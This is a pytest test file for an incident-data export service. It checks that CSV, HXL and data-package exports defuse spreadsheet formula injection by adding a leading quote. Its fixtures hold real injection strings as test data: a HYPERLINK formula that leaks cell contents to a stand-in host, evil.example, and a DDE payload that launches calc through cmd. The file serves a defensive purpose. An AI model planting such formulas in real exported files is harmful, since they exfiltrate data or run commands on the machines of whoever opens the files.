"""Text cells that a spreadsheet would run as a formula (=, +, -, @, tab, CR at the start) are
neutralised the OWASP way, with a leading single quote, in every CSV path: the Python path on
both databases, the COPY fast path (byte for byte the same), HXL and the data package's tables.
Numbers are numbers: a negative longitude stays -3.2. JSON keeps the text as written."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from harmwatch.exports.columns import COLUMNS
from harmwatch.exports.query import IncidentFilter
from harmwatch.exports.records import neutralised
from harmwatch.exports.service import ExportFormat, export
from harmwatch.places.models import Place
from tests.api.ngo.conftest import make_incident
from tests.harmwatch.exports.test_pg_copy import fast_bytes, postgresql_only, python_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\r\nCR first", "=1;2"]


@pytest.fixture
async def formulas(database) -> None:
    async with database.transaction() as session:
        session.add(Place(pcode="SY02", level=1, name="=cmd|' /C calc'!A0", names={"ar": "+حلب", "fr": "@Alep"}))
        session.add(Place(pcode="SY0200", level=2, parent_pcode="SY02", name="-Jebel", names={}))
        for text in FORMULAS:
            await make_incident(session, summary_public=text, lat=36.2, lon=-3.2, export_decimals=1,
                                geo_precision="near", killed_min=0, killed_max=1)
        await make_incident(session, adm1_pcode="-SY01", adm2_pcode="-1", summary_public="'=already quoted")
        await make_incident(session, summary_public="a plain = b - c")


def _rows(data: bytes, *, hxl: bool = False) -> list[dict[str, str]]:
    lines = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    return lines[1:] if hxl else lines


def test_neutralised_prefixes_formula_starts_only():
    assert [neutralised(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
    assert neutralised("a = b") == "a = b" and neutralised("") == "" and neutralised(None) is None
    assert neutralised(-3.2) == -3.2 and neutralised("'=x") == "'=x"


def test_only_text_columns_are_neutralised():
    numeric = {c.name for c in COLUMNS if not c.is_text}
    assert {"lat", "lon", "killed_min", "id", "time_precision", "occurred_on", "updated_at"} <= numeric
    assert {"summary", "adm1_name", "adm1_pcode", "event_type_label", "weapon"} <= {c.name for c in COLUMNS
                                                                                   if c.is_text}


@pytest.mark.parametrize("format", [ExportFormat.CSV, ExportFormat.HXL])
async def test_formula_cells_are_neutralised_in_the_python_path(database, formulas, format):
    data = await python_bytes(database, IncidentFilter(), "en", hxl=format is ExportFormat.HXL)
    rows = _rows(data, hxl=format is ExportFormat.HXL)
    assert [r["summary"] for r in rows[:len(FORMULAS)]] == ["'" + t for t in FORMULAS]
    assert rows[0]["adm1_name"] == "'=cmd|' /C calc'!A0" and rows[0]["adm2_name"] == "'-Jebel"
    assert rows[0]["lon"] == "-3.2" and rows[0]["lat"] == "36.2"  # numbers stay numbers
    odd = rows[len(FORMULAS)]
    assert (odd["adm1_pcode"], odd["adm2_pcode"], odd["summary"]) == ("'-SY01", "'-1", "'=already quoted")
    assert rows[-1]["summary"] == "a plain = b - c"
    assert b'=HYPERLINK' not in data.replace(b"'=HYPERLINK", b"")


async def test_json_keeps_the_text_as_written(database, formulas):
    from harmwatch.exports import query
    from harmwatch.exports.records import RecordBuilder
    from harmwatch.places.service import gazetteer

    async with database.transaction() as session:
        make = RecordBuilder("en", await gazetteer(session))
    records = [make.record(r) async for rows in query.stream(database, IncidentFilter()) for r in rows]
    assert records[0]["summary"] == HYPERLINK and records[0]["lon"] == -3.2


async def test_the_data_package_tables_are_neutralised_too(database, formulas):
    data = b"".join([c async for c in export(database, ExportFormat.DATAPACKAGE, actor="tests")])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        incidents = archive.read("data/incidents.csv").decode()
        places = list(csv.DictReader(io.StringIO(archive.read("data/places.csv").decode())))
    assert "'=HYPERLINK" in incidents and "\n=" not in incidents and ",=" not in incidents
    aleppo = next(p for p in places if p["pcode"] == "SY02")
    assert aleppo["name"] == "'=cmd|' /C calc'!A0" and aleppo["name_ar"] == "'+حلب"


@postgresql_only
@pytest.mark.parametrize("lang", ["en", "ar", "fr"])
async def test_the_copy_path_neutralises_the_same_bytes(database, formulas, lang):
    for hxl in (False, True):
        fast = await fast_bytes(database, IncidentFilter(), lang, hxl=hxl)
        assert fast == await python_bytes(database, IncidentFilter(), lang, hxl=hxl)
    assert b"'=HYPERLINK" in fast and b"'-SY01" in fast
